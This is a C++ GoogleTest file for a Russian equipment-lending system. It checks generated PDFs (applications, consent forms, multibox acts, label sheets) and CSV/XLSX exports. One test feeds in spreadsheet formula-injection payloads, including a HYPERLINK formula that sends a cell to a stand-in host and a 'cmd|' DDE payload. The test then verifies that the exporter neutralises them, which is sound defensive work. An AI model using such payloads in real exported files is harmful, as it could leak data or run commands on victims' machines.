// The family's papers (application, consent), the multibox act and report, label sheets, and
// the CSV/XLSX exports, rendered from a real database and read back (pdftotext, unzip).
#include <gtest/gtest.h>

#include "documents_test_support.hpp"
#include "prokat/documents/exports.hpp"

namespace prokat::documents::testing {
namespace {

bool Has(const std::string& text, const std::string& what) {
  return text.find(what) != std::string::npos;
}

TEST_F(DocumentsTest, ApplicationAndConsentArePrefilledFromTheFamily) {
  const std::string app = Text(*ApplicationPdf(sources_, staff_, family_, std::nullopt), "app");
  EXPECT_TRUE(Has(app, "Заявление")) << app;
  EXPECT_TRUE(Has(app, "Смирнова Ольга Ивановна"));
  EXPECT_TRUE(Has(app, "Смирнов Артём"));
  EXPECT_TRUE(Has(app, "ребёнок-инвалид"));
  const std::string consent = Text(*ConsentPdf(sources_, staff_, family_), "consent");
  EXPECT_TRUE(Has(consent, "на обработку персональных данных")) << consent;
  EXPECT_TRUE(Has(consent, "152-ФЗ"));
  EXPECT_TRUE(Has(consent, "с. Власиха, ул. Мира, 5"));
  EXPECT_TRUE(Has(consent, "01.03.2026"));
  EXPECT_EQ(ConsentPdf(sources_, staff_, FamilyId(999)).error().code, ErrorCode::kNotFound);
}

TEST_F(DocumentsTest, MultiboxActAndReportListTheBox) {
  std::vector<ItemId> items{AddItem("МБ-01", walker_type_), AddItem("МБ-02", walker_type_)};
  NewKit kit;
  kit.name = "Мультибокс №3 «Сенсорика»";
  kit.kind = KitKind::kMultibox;
  kit.point = point_;
  kit.items = items;
  kit.loose_components = {{"Методическое пособие", 1}};
  KitId box = Must(catalog_.CreateKit(staff_, kit)).id;
  NewAgreement a;
  a.family = family_;
  a.kits = {box};
  a.due_date = D("2026-06-02");
  AgreementId id = Must(agreements_.CreateDraft(staff_, a)).id;
  for (const auto& r : Must(agreements_.RulesToAcknowledge(staff_, id)))
    Must(agreements_.AcknowledgeRules(staff_, id, r.rules.id));
  Must(agreements_.Activate(staff_, id));

  const std::string act = Text(*MultiboxActPdf(sources_, staff_, id), "mb-act");
  EXPECT_TRUE(Has(act, "Акт приема-передачи портативного мультибокса")) << act;
  EXPECT_TRUE(Has(act, "Сенсорика"));
  EXPECT_TRUE(Has(act, "МБ-01"));
  EXPECT_TRUE(Has(act, "Методическое пособие"));
  const std::string report = Text(*MultiboxReportPdf(sources_, staff_, id), "mb-report");
  EXPECT_TRUE(Has(report, "Отчет об использовании портативного мультибокса")) << report;
  EXPECT_TRUE(Has(report, "(да/нет)"));
  EXPECT_TRUE(Has(report, "Методическое пособие"));

  AgreementId plain = Lend(1);
  EXPECT_EQ(MultiboxActPdf(sources_, staff_, plain).error().reason, "not_a_multibox");
}

TEST_F(DocumentsTest, LabelSheetHasOnePagePerTwentyFourLabels) {
  std::vector<ItemId> items;
  for (int i = 1; i <= 30; ++i) items.push_back(AddItem("ЭТ-" + std::to_string(i), walker_type_));
  auto pdf = LabelSheetPdf(sources_, staff_, items, {});
  ASSERT_TRUE(pdf.ok()) << pdf.error().message;
  EXPECT_EQ(Pages(*pdf), 2);
  EXPECT_FALSE(LabelSheetPdf(sources_, staff_, {}, {}).ok());
}

TEST_F(DocumentsTest, CsvHasBomSemicolonsAndRfc4180Quoting) {
  Sheet sheet{
      "Тест", "Тест", {"Поле", "Значение"}, {{"a;b", "he said \"да\""}, {"line\nbreak", "x"}}};
  const std::string csv = ToCsv(sheet);
  EXPECT_EQ(csv.rfind("\xEF\xBB\xBF", 0), 0u);
  EXPECT_EQ(csv,
            "\xEF\xBB\xBFПоле;Значение\r\n\"a;b\";\"he said \"\"да\"\"\"\r\n\"line\nbreak\";x\r\n");
}

// A spreadsheet opening the CSV must not run a formula typed into a family's name or a note.
TEST_F(DocumentsTest, CsvCellsThatASpreadsheetWouldRunAsFormulasAreText) {
  Sheet sheet{"Тест",
              "Тест",
              {"Поле", "Значение"},
              {{"=HYPERLINK(\"http://x.example/?\"&A1;\"Смирнова\")", "+7 913 555-12-34"},
               {"-5 км", "@SUM(A1:A2)"},
               {"\t=1+1", "\r=1+1"},
               {"-5", "12,50"},
               {"-2+3+cmd|' /C calc'!A0", "Смирнова Ольга = представитель"}}};
  EXPECT_EQ(ToCsv(sheet),
            "\xEF\xBB\xBFПоле;Значение\r\n"
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Смирнова\"\")\";'+7 913 555-12-34\r\n"
            "'-5 км;'@SUM(A1:A2)\r\n"
            "'\t=1+1;\"'\r=1+1\"\r\n"
            "-5;12,50\r\n"
            "'-2+3+cmd|' /C calc'!A0;Смирнова Ольга = представитель\r\n");

  // In XLSX the same text is a string cell, never a formula (<f>).
  const std::string path = dir_.File("formulas.xlsx");
  WriteFile(path, Must(ToXlsx(sheet)));
  EXPECT_FALSE(Has(Shell("unzip -p '" + path + "' xl/worksheets/sheet1.xml"), "<f>"));
  EXPECT_TRUE(Has(Shell("unzip -p '" + path + "' xl/sharedStrings.xml"), "=HYPERLINK("));
}

TEST_F(DocumentsTest, ExportsHoldTheSameRowsAsCsvAndXlsx) {
  AgreementId id = Lend(2);
  const std::string number = Must(agreements_.Get(staff_, id)).number;
  for (std::string_view name : kExportNames) {
    ExportFilter filter{D("2026-01-01"), D("2026-12-31"), std::nullopt,
                        std::nullopt,    std::nullopt,    ""};
    if (name == "waiting") {
      filter.type = walker_type_;
      filter.point = point_;
    }
    auto sheet = BuildExport(sources_, staff_, name, filter);
    ASSERT_TRUE(sheet.ok()) << name << ": " << sheet.error().message;
    // Nothing lent here is overdue, and no family waits.
    if (name != "overdue" && name != "waiting") {
      EXPECT_FALSE(sheet->rows.empty()) << name;
    }
    const std::string csv = ToCsv(*sheet);
    auto xlsx = ToXlsx(*sheet);
    ASSERT_TRUE(xlsx.ok()) << xlsx.error().message;
    const std::string path = dir_.File(std::string(name) + ".xlsx");
    WriteFile(path, *xlsx);
    const std::string strings = Shell("unzip -p '" + path + "' xl/sharedStrings.xml");
    for (const auto& h : sheet->headings) EXPECT_TRUE(Has(strings, h)) << name << ": " << h;
    EXPECT_TRUE(Has(csv, sheet->headings[0])) << name;
    const std::string rows = Shell("unzip -p '" + path + "' xl/worksheets/sheet1.xml");
    std::size_t xlsx_rows = 0;
    for (auto p = rows.find("<row "); p != std::string::npos; p = rows.find("<row ", p + 1))
      ++xlsx_rows;
    EXPECT_EQ(xlsx_rows, sheet->rows.size() + 1) << name;
  }
  auto reg = Must(
      BuildExport(sources_, staff_, "agreements", D("2026-01-01"), D("2026-12-31"), std::nullopt));
  EXPECT_TRUE(Has(ToCsv(reg), number));
  EXPECT_TRUE(Has(ToCsv(reg), "Смирнова Ольга Ивановна"));
  auto ack = Must(BuildExport(sources_, staff_, "acknowledgments", D("2026-01-01"), D("2026-12-31"),
                              std::nullopt));
  EXPECT_TRUE(Has(ToCsv(ack), "Правила пользования ТСР"));
  auto items =
      Must(BuildExport(sources_, staff_, "items", D("2026-01-01"), D("2026-12-31"), std::nullopt));
  EXPECT_TRUE(Has(ToCsv(items), "ВР-0001"));
  EXPECT_EQ(BuildExport(sources_, staff_, "nope", D("2026-01-01"), D("2026-12-31"), std::nullopt)
                .error()
                .code,
            ErrorCode::kNotFound);
}

}  // namespace
}  // namespace prokat::documents::testing
